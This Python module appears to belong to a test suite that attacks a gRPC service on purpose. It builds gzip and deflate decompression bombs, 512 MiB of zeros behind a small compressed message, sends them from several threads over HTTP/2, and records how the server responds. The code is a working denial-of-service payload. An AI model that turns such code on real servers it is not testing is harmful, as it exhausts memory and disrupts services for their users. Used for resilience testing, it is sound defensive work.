"""Compressed messages that are a thousand times larger than they look."""

import struct
import zlib

import http2
import wire
from attack import Attack, in_threads
from guard import STRANGER

INFLATED = 512 << 20
CALLS = 3
GZIP_HEAD = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"
ZLIB_HEAD = b"\x78\x9c"


def bombs():
    """{encoding: zeros, as many as INFLATED}, in a field of unknown number: a valid message.

    A piece is compressed once, up to a full flush, and what comes of it is repeated: bytes that
    inflate again and again to the same, without compressing half a GiB here.
    """
    head, piece = b"\xfa\x7f" + _varint(INFLATED), bytes(1 << 20)  # field 2047, its length
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)

    def flushed(data):
        return compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)

    pieces = INFLATED >> 20
    body = flushed(head) + flushed(piece) * pieces + compressor.flush()
    crc, adler = zlib.crc32(head), zlib.adler32(head)
    for _ in range(pieces):
        crc, adler = zlib.crc32(piece, crc), zlib.adler32(piece, adler)
    length = (len(head) + INFLATED) & 0xffffffff
    return {b"gzip": GZIP_HEAD + body + struct.pack("<II", crc, length),
            b"deflate": ZLIB_HEAD + body + struct.pack(">I", adler)}


def _varint(value):
    out = bytearray()
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    return bytes(out + bytes([value]))


def inflate(target, outcome):
    """Several at a time, by each method, until the time is over."""
    encoded, methods = bombs(), wire.methods()

    def work(target, outcome, worker):
        rng = target.rng(worker)
        while target.left() > 0:
            name = rng.choice(list(encoded))
            encoding = rng.choice([name, name, name, b"identity", b"br"])
            connection = http2.Connection(target.attacker())
            stream = connection.open(rng.choice(methods), [(b"grpc-encoding", encoding)])
            connection.write_slowly(stream, http2.message(encoded[name], compressed=True),
                                    target.until)
            outcome.count(f"{encoding.decode()}: {_end(connection, stream)}")
            connection.close()

    in_threads(CALLS, work, target, outcome)


def _end(connection, stream):
    """How the server ended the call, as far as that is seen without HPACK."""
    for kind, flags, number, payload in connection.frames(3):
        if number == stream and kind == http2.HEADERS and flags & http2.END_STREAM:
            return "answered"
        if number == stream and kind == http2.RST_STREAM:
            return f"reset with {struct.unpack('>I', payload)[0]}"
        if kind == http2.GOAWAY:
            return "connection ended"
    return "no answer in 3 s"


ATTACKS = [
    Attack("bombs", f"{CALLS} callers with compressed messages of {INFLATED >> 20} MiB", inflate,
           seconds=5.0, peak_mib=96,
           by=(STRANGER, "benchmark")),
]
